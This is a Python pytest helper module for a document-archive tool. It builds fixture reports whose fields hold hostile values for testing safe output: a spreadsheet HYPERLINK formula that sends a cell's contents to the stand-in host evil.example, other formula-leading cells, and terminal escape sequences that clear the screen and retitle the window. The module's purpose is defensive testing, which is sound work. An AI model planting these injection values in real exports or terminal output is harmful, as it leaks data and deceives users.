"""Helpers for the tests of safe outputs and CLI edges: an archive whose texts are hostile."""

from __future__ import annotations

import os
import stat
from pathlib import Path

import pytest

from bilagor.extractor.record import Amount, Section
from bilagor.index.archive import Archive
from factories import make_report

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klicka")'
# A terminal escape that would clear the screen and set the window title, plus a bell and a C1 CSI.
ESCAPES = "\x1b[2J\x1b]0;pwned\x07\x9b31m"


def hostile_reports():
    """Reports whose project, text and sentences start like formulas or carry terminal escapes."""
    sentence = "-1+1 kr i budget " + ESCAPES
    formula = make_report(
        "formula",
        project=FORMULA,
        location="+46 8 508 000 00",
        year=2018,
        sections=[Section("ekonomiskt_utfall", "Ekonomiskt utfall", "@SUM(A1:A9) budget 5,0 mnkr", 1)],
        amounts=[Amount("5,0 mnkr", 5_000_000, False, "budget", "ekonomiskt_utfall", 1, "\t=1+1 " + sentence)],
    )
    escapes = make_report(
        "escapes",
        project="Kamera" + ESCAPES,
        title="Titel" + ESCAPES,
        filename="fil\x1b[31m.pdf",
        year=2019,
        sections=[Section("ekonomiskt_utfall", "Avvikelser" + ESCAPES, "Kameraövervakning" + ESCAPES, 1)],
        amounts=[Amount("2,6 mnkr" + ESCAPES, 2_600_000, False, "utfall", "ekonomiskt_utfall", 1, sentence)],
        warnings=["varning" + ESCAPES],
    )
    return [formula, escapes]


def build_hostile_archive(folder: Path) -> Path:
    with Archive.open(folder, writable=True) as archive:
        archive.add(hostile_reports())
    return folder


def private_full_device(tmp_path: Path) -> Path:
    """A /dev/full node of our own (every write fails with ENOSPC), so a regression cannot replace the machine's."""
    node = tmp_path / "full"
    try:
        os.mknod(node, stat.S_IFCHR | 0o666, os.makedev(1, 7))
    except (PermissionError, OSError):
        pytest.skip("cannot create a device node here")
    return node
